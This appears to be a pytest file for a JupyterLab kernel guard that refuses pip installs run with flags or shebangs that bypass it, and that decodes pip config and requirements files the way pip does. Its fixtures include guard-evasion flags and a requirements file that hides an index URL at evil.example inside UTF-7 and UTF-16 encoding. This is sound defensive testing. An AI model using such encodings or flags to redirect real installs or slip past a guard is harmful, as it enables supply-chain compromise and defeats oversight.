"""Fix round 40 (red team 37c, 37a R37a-2): what stands in for a guard that is not there.

A pip run by a Python whose own options drop Warden's guard (-I/-E/-S, an -X option Warden
does not know harmless, a pip script's ``#!`` line with them) is refused as an install: no
guard decides it again on what pip resolves, and the kernel's reading of pip's config places,
site config and requirements files cannot be pip's own. What installs nothing (``pip list``)
still runs, a kernel without the launch guard still reads such a pip (R9-5), and a guarded pip
after a writer is still left to its guard (R10-3). The reading itself follows pip closer for
the pips it still decides alone (a pip whose environment drops the guard, uv-like): pip's
config places (R37c-1, R37c-2) and its requirements files' decoding (R37c-3). A guardless
``-c`` importing a module Warden does not place counts as a writer (R37a-2).
"""

import os
import sys

import pytest

from jupyterlab_warden.kernel.guard.installs import commands, requirements, sources
from jupyterlab_warden.kernel.guard.installs.gate import read_requests
from jupyterlab_warden.kernel.guard.installs.request import InstallRequest

LAUNCHED = commands.LaunchGuard(True, ())
UNLAUNCHED = commands.LaunchGuard(False, ())
WHAT_TO_DO = "run pip without -I/-E/-S"


def _problems(tmp_path, argv=None, shell=None, launch=LAUNCHED):
    env = {"HOME": str(tmp_path), "PIP_CONFIG_FILE": os.devnull}
    found = read_requests(argv, shell, env, str(tmp_path), launch=launch)
    return [p for r in found for p in r.problems]


@pytest.mark.parametrize("flags", [["-I"], ["-E"], ["-S"], ["-u", "-IS"], ["-bE"]])
def test_a_pip_install_in_a_python_that_drops_the_guard_is_refused(tmp_path, flags):
    argv = [sys.executable, *flags, "-m", "pip", "install", "x"]
    assert any(WHAT_TO_DO in p for p in _problems(tmp_path, argv)), argv


def test_after_a_writer_a_guardless_pip_is_refused_not_left_to_a_guard(tmp_path):
    (tmp_path / "r.txt").write_text("x\n")
    line = f"touch z && {sys.executable} -I -m pip install -r r.txt"
    assert any(WHAT_TO_DO in p for p in _problems(tmp_path, shell=line))


def test_child_reads_only_for_a_pip_whose_python_keeps_the_guard():
    """``_guard_lost`` (which leaves a pip's files to its guard after a writer when empty)
    reads the Python's own options and interpreter too (R37c-4)."""
    drops = commands._python_drops
    assert "-I" in drops(["python3", "-I", "-m", "pip"], "python3", {})
    assert "-ES" in drops(["nice", "python3", "-SE", "-m", "pip"], "python3", {})
    assert "host" in drops(["/nowhere/python3.7", "-m", "pip"], "/nowhere/python3.7", {})
    assert drops([sys.executable, "-m", "pip"], sys.executable, {}) == ""
    assert drops(["pip", "install", "x"], "pip", {}) == ""


def test_a_pip_script_whose_shebang_drops_the_guard_is_refused(tmp_path):
    pip = tmp_path / "pip"
    pip.write_text(f"#!{sys.executable} -I\nfrom pip._internal.cli.main import main\nmain()\n")
    pip.chmod(0o755)
    assert any(WHAT_TO_DO in p for p in _problems(tmp_path, [str(pip), "install", "x"]))


@pytest.mark.parametrize(
    "args", [["list"], ["--version"], ["show", "pip"], ["freeze"], ["config", "list"]]
)
def test_a_guardless_pip_that_installs_nothing_still_runs(tmp_path, args):
    assert _problems(tmp_path, [sys.executable, "-I", "-m", "pip", *args]) == []


def test_the_ordinary_pips_are_not_refused_for_their_guard(tmp_path):
    (tmp_path / "r.txt").write_text("x\n")
    for argv, shell in (
        ([sys.executable, "-m", "pip", "install", "x"], None),
        (None, f"git status; touch z && {sys.executable} -m pip install -r r.txt"),
        (None, "pip install x"),
    ):
        assert not any(WHAT_TO_DO in p for p in _problems(tmp_path, argv, shell))
    # a kernel without the launch guard reads every pip (each is guardless there: R9-5)
    argv = [sys.executable, "-I", "-m", "pip", "install", "x"]
    assert not any(WHAT_TO_DO in p for p in _problems(tmp_path, argv, launch=UNLAUNCHED))


def test_a_guardless_pip_list_runs_in_the_kernel(kernel):
    code = "import subprocess, sys\nsubprocess.run([sys.executable, '-I', '-m', 'pip', 'list'])\n"
    assert kernel.cell(code, launched=True)["refused"] is None


# -- pip's config files where pip finds them (the pips Warden still reads alone) ------------
def _conf(tmp_path, env, program="pip", cwd=None):
    return sources.pip_config_files(env, program, str(cwd or tmp_path))


def test_pip_config_places_follow_pip(tmp_path):
    home = str(tmp_path / "h")
    blank = _conf(tmp_path, {"HOME": home, "XDG_CONFIG_HOME": " "})
    assert os.path.join(home, ".config", "pip", "pip.conf") in blank
    tilde = _conf(tmp_path, {"HOME": home, "XDG_CONFIG_DIRS": "~/x"})
    assert os.path.join(home, "x", "pip", "pip.conf") in tilde
    relative = _conf(tmp_path, {"HOME": home, "XDG_CONFIG_HOME": "cfg"}, cwd=tmp_path / "sub")
    assert str(tmp_path / "sub" / "cfg" / "pip" / "pip.conf") in relative
    empty_home = _conf(tmp_path, {"HOME": ""})
    assert "/.config/pip/pip.conf" in empty_home and "/.pip/pip.conf" in empty_home
    empty_entry = _conf(tmp_path, {"HOME": home, "XDG_CONFIG_DIRS": "/etc/xdg::/y"})
    assert str(tmp_path / "pip" / "pip.conf") in empty_entry


def test_the_site_config_of_the_python_the_start_finds(tmp_path):
    bin_ = tmp_path / "v" / "bin"
    bin_.mkdir(parents=True)
    (bin_ / "python").symlink_to(sys.executable)
    site = str(tmp_path / "v" / "pip.conf")
    on_path = {"HOME": str(tmp_path), "PATH": f"{bin_}:{os.environ['PATH']}"}
    assert site in _conf(tmp_path, on_path, "python", cwd="/")
    assert site in _conf(tmp_path, {"HOME": str(tmp_path)}, "./python", cwd=bin_)


# -- requirements files decoded as pip decodes them ----------------------------------------
CODED = {
    "utf-7": b"# -*- coding: utf-7 -*-\n#x +AAo---index-url https://evil.example/simple+AAo-y\n",
    "utf-16 mark": "\ufeff--index-url https://evil.example/simple\ny\n".encode("utf-16"),
}


@pytest.mark.parametrize("case", sorted(CODED))
def test_a_pip_requirements_file_is_decoded_as_pip_decodes_it(tmp_path, case):
    (tmp_path / "r.txt").write_bytes(CODED[case])
    request = InstallRequest("pip", "pip install")
    requirements.read_file(request, "r.txt", str(tmp_path), {})
    assert [s.url for s in request.sources] == ["https://evil.example/simple"], request.problems
    assert request.names() == ["y"]


def test_an_unknown_coding_is_a_problem_and_plain_utf8_reads_as_before(tmp_path):
    (tmp_path / "r.txt").write_bytes(b"# coding: no-such-codec\ny\n")
    request = InstallRequest("pip", "pip install")
    requirements.read_file(request, "r.txt", str(tmp_path), {})
    assert request.problems and "LookupError" in request.problems[0]
    (tmp_path / "r.txt").write_text("# coding: utf-8\nnumpy==2.0  # caf\u00e9\n")
    request = InstallRequest("pip", "pip install")
    requirements.read_file(request, "r.txt", str(tmp_path), {})
    assert request.problems == [] and request.names() == ["numpy"]


# -- R37a-2: a guardless -c that imports a module Warden does not place ---------------------
@pytest.mark.parametrize(
    ("args", "writes"),
    [
        (["-S", "-c", "import w"], True),
        (["-E", "-c", "from w import x"], True),
        (["-I", "-c", "import numpy; print(numpy.__version__)"], True),
        (["-E", "-c", "import json"], True),  # the working folder is first: ./json.py
        (["-I", "-c", "import json; print(json.dumps(1))"], False),
        (["-I", "-c", "import sys; print(sys.version)"], False),
        (["-I", "-c", "print(1)"], False),
        (["-S", "-c", "print(1)"], False),
    ],
)
def test_a_guardless_c_text_importing_an_unplaced_module_is_a_writer(args, writes):
    assert commands._drops_its_guard("python3", args) is writes
